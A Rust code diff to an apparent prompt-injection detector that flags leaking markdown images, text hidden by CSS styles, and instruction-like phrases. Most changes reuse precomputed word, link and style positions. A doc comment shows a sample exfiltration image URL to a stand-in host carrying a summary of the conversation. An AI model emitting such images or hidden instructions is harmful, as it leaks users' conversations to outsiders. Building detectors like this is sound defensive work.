@@ -84,7 +84,7 @@ pub(crate) fn speech(text: &SkillText<'_>) -> Vec<Speech> {
             is_certain: true,
         });
     }
-    for bytes in unseen_texts(text) {
+    for bytes in unseen_texts(text, &file) {
         let is_known = |one: &Speech| bytes.contains(&one.bytes.start);
         if !found.iter().any(is_known) {
             found.push(Speech {
@@ -104,8 +104,9 @@ pub(crate) fn speech(text: &SkillText<'_>) -> Vec<Speech> {
 /// an image has a placeholder for the data, as in `![](https://a.invalid/?d=<summary of the
 /// conversation>)`. A client that shows the image sends the data.
 fn leaking_images(text: &SkillText<'_>, file: &FileTraits<'_>) -> Vec<Range<usize>> {
-    let images = text.text.match_indices("](http").take(MAX_STYLES);
-    let leaks = images.filter_map(|(close, _)| {
+    let images = file.words().links.iter().take(MAX_STYLES);
+    let leaks = images.filter_map(|close| {
+        let close = *close;
         let low = floor_char_boundary(text.text, close.saturating_sub(MAX_LINE));
         let start = low + text.text[low..close].rfind("![")?;
         let is_image = !text.text[start..close].contains(['(', '\n']);
@@ -146,7 +147,7 @@ fn is_mentioned(text: &SkillText<'_>, file: &FileTraits<'_>, at: usize) -> bool 
     let clause = clause::around(text.text, &within, at, lines);
     let hits: Vec<Hit> = file.words().within(&(clause.start..at)).cloned().collect();
     let negates = |hit: &Hit| matches!(hit.class, Class::Not | Class::Dont | Class::Speaks);
-    let languages = lexicon::languages(&hits);
+    let languages = lexicon::languages(hits.iter());
     let mut languages = languages.into_iter().chain([lexicon::ENGLISH]);
     hits.iter().any(negates)
         || clause::is_quoted(text.text, &within, at, lines)
@@ -164,12 +165,13 @@ const MAX_STYLES: usize = 200;
 /// Returns the byte ranges of texts in HTML elements whose `style` makes the text invisible, for
 /// example with `font-size:0`. An element is skipped if its style sets `background`, `display` or
 /// `visibility`, because pages often use these properties for their layout.
-fn unseen_texts(text: &SkillText<'_>) -> Vec<Range<usize>> {
+fn unseen_texts(text: &SkillText<'_>, file: &FileTraits<'_>) -> Vec<Range<usize>> {
     if !text.is_markdown {
         return Vec::new();
     }
-    let styles = text.text.match_indices("style=").take(MAX_STYLES);
-    let elements = styles.filter_map(|(at, _)| {
+    let styles = file.words().styles.iter().take(MAX_STYLES);
+    let elements = styles.filter_map(|at| {
+        let at = *at;
         let high = floor_char_boundary(text.text, at + MAX_ELEMENT);
         let start = at + text.text[at..high].find('>')? + 1;
         let style = &text.text[at..start];
@@ -195,7 +197,7 @@ pub(crate) fn has_order(text: &str) -> bool {
         let clause = clause::around(text, &whole, *at, Lines::Prose);
         let (sentence, around) = sentences(text, &whole, &clause);
         let hits = words(text, &listed, &around);
-        lexicon::languages(&hits).into_iter().any(|language| {
+        lexicon::languages(hits.iter()).into_iter().any(|language| {
             let clause = Clause {
                 text,
                 bytes: clause.clone(),
@@ -247,18 +249,23 @@ fn orders(
         Act::SetAside | Act::Conceal | Act::Pretend => true,
         _ => text.is_markdown || !file.is_data,
     };
-    let own: Vec<Hit> = file.words().within(&clause).cloned().collect();
     let alone = Clause {
         text: whole,
         bytes: clause.clone(),
         sentence: clause.clone(),
         around: clause.clone(),
-        hits: &own,
+        hits: file.words().that_begin_in(&clause),
         effort: MAX_EFFORT.into(),
         has_read: &|_, _| true,
     };
     let is_fake = |hit: &Hit| hit.class == Class::Fake && is_marked(whole, within, &hit.bytes);
-    if !alone.may_be_order(&wanted) && !own.iter().any(is_fake) {
+    let has_fake = || file.words().within(&clause).any(is_fake);
+    if !alone.may_be_order(&wanted) && !has_fake() {
+        return Vec::new();
+    }
+    let near = clause.start.saturating_sub(MAX_SENTENCE)..clause.end + MAX_SENTENCE;
+    let near: Vec<&Hit> = file.words().within(&near).collect();
+    if !orders::may_have_order(clause.start, &near, &wanted) && !has_fake() {
         return Vec::new();
     }
     let (sentence, around) = sentences(whole, within, &clause);
@@ -271,7 +278,7 @@ fn orders(
     let has_read =
         |until: usize, classes: &[Class]| has_read_before(text, file, within, until, classes);
     let mut found: Vec<Speech> = Vec::new();
-    for language in lexicon::languages(&hits) {
+    for language in lexicon::languages(hits.iter()) {
         for part in parts(&hits, language, &clause) {
             let words = Clause {
                 text: whole,
